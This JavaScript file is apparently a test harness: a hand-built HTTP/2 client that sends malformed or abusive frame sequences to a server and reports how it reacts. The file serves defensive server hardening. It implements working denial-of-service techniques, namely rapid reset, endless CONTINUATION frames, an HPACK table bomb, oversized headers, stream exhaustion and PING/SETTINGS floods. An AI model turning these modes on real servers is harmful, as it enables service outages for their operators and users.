// A raw-bytes HTTP/2 client for the attack tests: frames and HPACK written by hand (RFC 9113,
// RFC 7541), so it can send what no well-behaved client library would. Run in a sandbox namespace.
// argv: CA_FILE HOST PORT MODE [N]
//   settings           the preface and an empty SETTINGS; report the server's SETTINGS
//   rapid-reset N      N streams, each HEADERS (END_STREAM) at once followed by RST_STREAM(CANCEL)
//   continuation N     one HEADERS without END_HEADERS, then N CONTINUATION frames never ending the block
//   big-headers N      one request whose header list is N KiB (1 KiB fields)
//   hpack-bomb N       one 4000-byte field put in the HPACK dynamic table, then referenced N times (1 byte each)
//   streams N          N requests left open (no END_STREAM), all at once
//   ping-flood N       N PINGs written, never reading what the server sends
//   settings-flood N   N SETTINGS frames written, never reading
//   connect-protocol   an extended CONNECT (RFC 8441, :protocol websocket)
//   connect            a CONNECT request (RFC 9113 §8.5)
//   host-mismatch      a request whose host field names another host than its :authority
// Prints one JSON line once the server closes the connection or after 6 s (20 s for the floods):
//   { settings, goaway: {code, lastStreamId} | null, rst: {CODE: count}, responses: [{stream, status}], closed,
//     unsent: bytes of ours still queued (the server stopped reading them) }
import tls from 'node:tls';
import { readFileSync } from 'node:fs';

const [caFile, host, portText, mode, nText] = process.argv.slice(2);
const N = Number(nText ?? 0);

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
};
const DATA = 0;
const HEADERS = 1;
const RST = 3;
const SETTINGS = 4;
const PING = 6;
const GOAWAY = 7;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

/** HPACK integer with an N-bit prefix (RFC 7541 §5.1). */
const int = (first, bits, n) => {
  const max = (1 << bits) - 1;
  if (n < max) return Buffer.from([first | n]);
  const out = [first | max];
  let v = n - max;
  while (v >= 128) {
    out.push((v % 128) + 128);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return Buffer.from(out);
};
const str = (s) => {
  const b = Buffer.from(s, 'latin1');
  return Buffer.concat([int(0, 7, b.length), b]);
};
/** Literal field without indexing, new name (RFC 7541 §6.2.2). */
const lit = (name, value) => Buffer.concat([Buffer.from([0]), str(name), str(value)]);
/** Literal field with incremental indexing, new name (§6.2.1): it enters the dynamic table. */
const litIndexed = (name, value) => Buffer.concat([Buffer.from([0x40]), str(name), str(value)]);
const request = (path, extra = []) =>
  Buffer.concat([lit(':method', 'GET'), lit(':scheme', 'https'), lit(':path', path), lit(':authority', `${host}:${portText}`), ...extra]);

/** HPACK Huffman codes of the digits (RFC 7541 Appendix B): all a :status value holds. */
const DIGITS = ['00000', '00001', '00010', '011001', '011010', '011011', '011100', '011101', '011110', '011111'];
/**
 * The :status of a response's header block: the first field, either indexed from the static
 * table (RFC 7541 Appendix A) or a literal with the :status name (index 8), its value raw or Huffman-coded.
 */
const statusOf = (p) => {
  // Static table entries 8-14: :status 200, 204, 206, 304, 400, 404, 500.
  if (p[0] >= 0x88 && p[0] <= 0x8e) return [200, 204, 206, 304, 400, 404, 500][p[0] - 0x88];
  if ((p[0] & 0x0f) !== 8 && (p[0] & 0x3f) !== 8) return -1;
  const len = p[1] & 0x7f;
  const v = p.subarray(2, 2 + len);
  if ((p[1] & 0x80) === 0) return Number(v.toString('latin1'));
  let bits = [...v].map((b) => b.toString(2).padStart(8, '0')).join('');
  let text = '';
  while (bits.length >= 5) {
    const d = DIGITS.findIndex((c) => bits.startsWith(c));
    if (d < 0) break;
    text += String(d);
    bits = bits.slice(DIGITS[d].length);
  }
  return Number(text);
};

const out = { settings: {}, goaway: null, rst: {}, responses: [], closed: false, unsent: 0 };
const s = tls.connect({ host, port: Number(portText), servername: host, ca: readFileSync(caFile), ALPNProtocols: ['h2'] });
let buf = Buffer.alloc(0);
let done = false;
const finish = () => {
  if (done) return;
  done = true;
  // Bytes of ours the server had not taken when we stopped (it stopped reading us).
  out.unsent = s.writableLength;
  process.stdout.write(JSON.stringify(out) + '\n');
  s.destroy();
  process.exit(0);
};
setTimeout(finish, mode.endsWith('-flood') ? 20000 : 6000);
s.on('error', () => {});
s.on('close', () => {
  out.closed = true;
  finish();
});
s.on('data', (c) => {
  buf = Buffer.concat([buf, c]);
  while (buf.length >= 9) {
    const len = buf.readUIntBE(0, 3);
    if (buf.length < 9 + len) break;
    const type = buf[3];
    const flags = buf[4];
    const stream = buf.readUInt32BE(5) & 0x7fffffff;
    const p = buf.subarray(9, 9 + len);
    buf = buf.subarray(9 + len);
    if (type === SETTINGS && (flags & 1) === 0) {
      for (let i = 0; i + 6 <= p.length; i += 6) out.settings[p.readUInt16BE(i)] = p.readUInt32BE(i + 2);
      // Acknowledged as a client must (RFC 9113 §6.5.3): the server's limits are then in force.
      s.write(frame(SETTINGS, 1, 0));
    } else if (type === GOAWAY) out.goaway = { lastStreamId: p.readUInt32BE(0) & 0x7fffffff, code: p.readUInt32BE(4) };
    else if (type === RST) out.rst[p.readUInt32BE(0)] = (out.rst[p.readUInt32BE(0)] ?? 0) + 1;
    else if (type === HEADERS) out.responses.push({ stream, status: statusOf(p) });
  }
});
s.on('secureConnect', async () => {
  const w = (b) => s.write(b);
  w(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'));
  w(frame(SETTINGS, 0, 0));
  const rst = (id, code) => {
    const p = Buffer.alloc(4);
    p.writeUInt32BE(code);
    return frame(RST, 0, id, p);
  };
  switch (mode) {
    case 'settings':
      setTimeout(finish, 500);
      break;
    case 'rapid-reset': {
      const parts = [];
      for (let i = 0; i < N; i++) {
        const id = 1 + 2 * i;
        parts.push(frame(HEADERS, END_STREAM | END_HEADERS, id, request(`/rr/${i}`)), rst(id, 8));
      }
      w(Buffer.concat(parts));
      break;
    }
    case 'continuation': {
      w(frame(HEADERS, END_STREAM, 1, request('/cont')));
      const parts = [];
      for (let i = 0; i < N; i++) parts.push(frame(CONTINUATION, 0, 1, lit(`x-c${i}`, 'a'.repeat(100))));
      w(Buffer.concat(parts));
      break;
    }
    case 'big-headers': {
      const fields = [];
      for (let i = 0; i < N; i++) fields.push(lit(`x-big-${i}`, 'b'.repeat(1000)));
      // Split over CONTINUATION frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
      const block = request('/big', fields);
      const chunks = [];
      for (let at = 0; at < block.length; at += 16000) chunks.push(block.subarray(at, at + 16000));
      chunks.forEach((c, i) => w(frame(i === 0 ? HEADERS : CONTINUATION, (i === 0 ? END_STREAM : 0) | (i === chunks.length - 1 ? END_HEADERS : 0), 1, c)));
      break;
    }
    case 'hpack-bomb': {
      const refs = Buffer.alloc(N, 0xbe); // indexed field 62: the newest dynamic table entry
      w(frame(HEADERS, END_STREAM | END_HEADERS, 1, Buffer.concat([request('/bomb'), litIndexed('x-bomb', 'z'.repeat(4000)), refs])));
      break;
    }
    case 'streams': {
      // Once the server's SETTINGS (MAX_CONCURRENT_STREAMS) are acknowledged.
      await new Promise((r) => setTimeout(r, 300));
      const parts = [];
      for (let i = 0; i < N; i++) parts.push(frame(HEADERS, END_HEADERS, 1 + 2 * i, request(`/open/${i}`, [lit('content-length', '1')])));
      w(Buffer.concat(parts));
      break;
    }
    case 'ping-flood':
    case 'settings-flood': {
      s.pause();
      const one = mode === 'ping-flood' ? frame(PING, 0, 0, Buffer.alloc(8)) : frame(SETTINGS, 0, 0);
      w(Buffer.concat(Array.from({ length: N }, () => one)));
      break;
    }
    case 'connect-protocol':
      w(
        frame(
          HEADERS,
          END_HEADERS,
          1,
          Buffer.concat([lit(':method', 'CONNECT'), lit(':protocol', 'websocket'), lit(':scheme', 'https'), lit(':path', '/ws'), lit(':authority', host)]),
        ),
      );
      setTimeout(finish, 1500);
      break;
    case 'host-mismatch':
      w(frame(HEADERS, END_STREAM | END_HEADERS, 1, request('/host-mismatch', [lit('host', `other.example.test:${portText}`)])));
      setTimeout(finish, 1500);
      break;
    case 'connect':
      w(frame(HEADERS, END_STREAM | END_HEADERS, 1, Buffer.concat([lit(':method', 'CONNECT'), lit(':authority', `${host}:443`)])));
      setTimeout(finish, 1500);
      break;
    default:
      throw new Error(`unknown mode ${mode}`);
  }
  void DATA;
});
